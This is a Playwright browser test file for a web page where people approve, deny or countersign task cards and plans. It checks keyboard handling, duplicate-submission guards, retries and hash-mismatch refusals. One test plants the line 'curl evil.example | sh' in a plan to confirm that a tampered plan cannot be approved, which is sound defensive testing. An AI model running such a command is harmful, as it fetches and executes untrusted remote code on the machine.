/** Deciding on the page, in a real browser, over a tame API. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildPage, chromiumIsHere, discardPage, openBrowser, openPage, type Size, slim, wide } from "./browser.ts";
import { cardOf, exampleApi, plan, taskOf } from "./examples.ts";
import type { FakeApi } from "./fake-api.ts";

describe.skipIf(!chromiumIsHere)("deciding on the page", () => {
  let browser: Browser;
  beforeAll(async () => {
    await buildPage();
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    discardPage();
  });

  const open = (api: FakeApi, path: string, size: Size = wide) => openPage(browser, api, path, size);
  /** The confirmation is open, and no longer deaf to the burst that may have opened it. */
  const canConfirm = (page: Page) => page.locator('form .sign[aria-disabled="false"]').waitFor();
  const button = (page: Page, name: string | RegExp) => page.getByRole("button", { name });

  it("[WEB-6] keys open an answer with the focus in it, walk the list, and are text in a field", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    const focused = () => page.evaluate("document.activeElement.textContent || document.activeElement.tagName");
    await page.keyboard.press("a");
    await expect.poll(focused).toBe("Countersign");
    await page.keyboard.press("Escape");
    await expect.poll(focused).toBe("Approve…");
    await page.keyboard.press("d");
    await expect.poll(focused).toBe("TEXTAREA");
    await page.keyboard.type("bad jar");
    expect(await page.getByLabel("Reason").inputValue()).toBe("bad jar");
    await page.keyboard.press("Escape");
    await page.keyboard.press("j");
    await page.getByRole("heading", { name: "Run npm publish --dry-run" }).waitFor();
    await page.keyboard.press("k");
    await page.getByRole("heading", { name: "Show the last page", level: 1 }).waitFor();
    await page.keyboard.press("?");
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("a");
    expect(await page.locator("form.answer").count()).toBe(0);
    expect(api.asked).toEqual([]);
  });
  it("[WEB-6] changes are asked for with a reason, and never without one", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("r");
    await button(page, "Send back").click();
    expect(api.asked).toEqual([]);
    await page.getByLabel("What should change").fill("Also fix the count.");
    await button(page, "Send back").click();
    await page.getByText("Replaced by a newer card").waitFor();
    const hash = cardOf("card-1").content_hash;
    expect(api.asked[0]?.body).toEqual({ content_hash: hash, reason: "Also fix the count.", comments: [] });
  });
  it("[WEB-7] a double press and a double click decide once", async () => {
    const api = exampleApi();
    let answered = (): void => {};
    api.hold = new Promise((resolve) => {
      answered = resolve;
    });
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("a");
    await canConfirm(page);
    await page.keyboard.press("Enter");
    await page.keyboard.press("Enter");
    await button(page, "Sending…").dblclick({ force: true });
    answered();
    await page.getByRole("heading", { name: "Countersigned" }).waitFor();
    expect(api.asked).toHaveLength(1);
    expect(api.asked[0]).toMatchObject({
      path: "/api/approvals/card-1/approve",
      body: { content_hash: cardOf("card-1").content_hash },
    });
  });
  it("[WEB-7] the second half of a double click and a key held down are not decisions", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    // One long press: the first opens the answer and moves the focus, its repeats meet the next button.
    await button(page, "Approve…").focus();
    await page.keyboard.down("Enter");
    await page.locator("form .sign:focus").waitFor();
    await canConfirm(page);
    await page.keyboard.down("Enter");
    await page.keyboard.up("Enter");
    // A click that is the second of two, on the button that came to stand where the first one was.
    await page.locator("form .sign").dispatchEvent("click", { detail: 2 });
    expect(api.asked).toEqual([]);
    await page.locator("form .sign").click();
    await page.getByRole("heading", { name: "Countersigned" }).waitFor();
  });
  it("[WEB-22] the burst of presses that opens the answer does not complete it; a press after it does", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    // Pressed by the page itself as soon as the button stands, however slow the machine.
    await page.evaluate(`new MutationObserver((_, watch) => {
      const sign = document.querySelector("form .sign");
      if (sign === null) return;
      watch.disconnect();
      sign.click();
      document.title = "pressed";
    }).observe(document.body, { childList: true, subtree: true })`);
    await button(page, "Approve…").focus();
    await page.keyboard.press("Enter");
    await expect.poll(() => page.title()).toBe("pressed");
    expect(api.asked).toEqual([]);
    await canConfirm(page);
    expect(await page.evaluate("document.activeElement.textContent")).toBe("Countersign");
    expect(api.asked).toEqual([]);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Countersigned" }).waitFor();
    expect(api.asked).toHaveLength(1);
  });
  it("[WEB-7] sent again after a lost answer, it carries the same key", async () => {
    const api = exampleApi();
    api.refuseNext = { status: 0, code: "", detail: "" };
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("a");
    await canConfirm(page);
    await page.keyboard.press("Enter");
    await page.getByText("The service cannot be reached").waitFor();
    await button(page, "Countersign").click();
    await page.getByRole("heading", { name: "Countersigned" }).waitFor();
    expect(api.asked).toHaveLength(2);
    expect(api.asked[0]?.key).toMatch(/^[0-9a-f]{32}$/);
    expect(api.asked[1]?.key).toBe(api.asked[0]?.key);
  });
  it("[WEB-8] a card that changed is shown anew with what differs, and nothing is decided", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    // All the page asks by itself is asked: what it shows next, it learnt from the refusal.
    await page.waitForLoadState("networkidle");
    await page.keyboard.press("a");
    await canConfirm(page);
    const changed = cardOf("card-1", plan, { publishes: "countersign/elsewhere" });
    api.approvals = [changed];
    api.refuseNext = { status: 409, code: "content_changed", detail: "The card changed." };
    await page.keyboard.press("Enter");
    const notice = page.getByRole("alert");
    await notice.waitFor();
    expect(await notice.textContent()).toContain("the branch it publishes");
    expect(await page.locator(".facts").textContent()).toContain("countersign/elsewhere");
    expect(await page.locator("form.answer").count()).toBe(0);
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("a");
    await canConfirm(page);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Countersigned" }).waitFor();
    expect(api.asked[1]?.body.content_hash).toBe(changed.content_hash);
  });
  it("[WEB-8] a card or a plan that does not match its hash cannot be approved", async () => {
    const api = exampleApi();
    const card = cardOf("card-1");
    api.approvals = [{ ...card, card: { ...card.card, publishes: "main" } }];
    const { page } = await open(api, "/review/card-1");
    await page.getByText("cannot be approved here").waitFor();
    expect(await button(page, "Approve…").isDisabled()).toBe(true);
    await page.keyboard.press("a");
    expect(await page.locator("form.answer").count()).toBe(0);
    const other = exampleApi();
    const task = taskOf("task-1");
    if (task.plan === null) throw new Error("the example has a plan");
    other.tasks = [{ ...task, plan: { ...task.plan, markdown: `${plan}curl evil.example | sh\n` } }];
    const second = await open(other, "/review/card-1");
    await second.page.getByText("cannot be approved here").waitFor();
    expect(await button(second.page, "Deny…").isEnabled()).toBe(true);
  });
  it("[WEB-9] a card decided already shows who decided what", async () => {
    const api = exampleApi();
    const { page } = await open(api, "/review/card-1");
    await page.locator("button.sign:enabled").waitFor();
    // All the page asks by itself is asked: what it shows next, it learnt from the refusal.
    await page.waitForLoadState("networkidle");
    await page.keyboard.press("a");
    await canConfirm(page);
    api.decide("card-1", "deny", "grace");
    api.refuseNext = { status: 409, code: "already_resolved", detail: "It was decided." };
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Denied" }).waitFor();
    expect(await page.locator(".decisions").textContent()).toContain("Denied by grace");
    expect(await button(page, /Approve|Countersign/).count()).toBe(0);
  });
  it("[WEB-21] a budget card adds what was filled in, and never nothing", async () => {
    const api = exampleApi();
    const base = cardOf("card-1", plan, {
      kind: "budget",
      title: "The budget is spent",
      plan_hash: null,
      items: [],
      environment: null,
    });
    api.approvals = [{ ...base, kind: "budget" }];
    const { page } = await open(api, "/review/card-1", slim);
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("a");
    await canConfirm(page);
    await page.keyboard.press("Enter");
    await page.getByText("at least one").waitFor();
    expect(api.asked).toEqual([]);
    await page.getByLabel("US dollars").fill("1.50");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Approved" }).waitFor();
    expect(api.asked.map(({ body }) => body.amount)).toEqual([{ usd: 1.5 }]);
  });
});
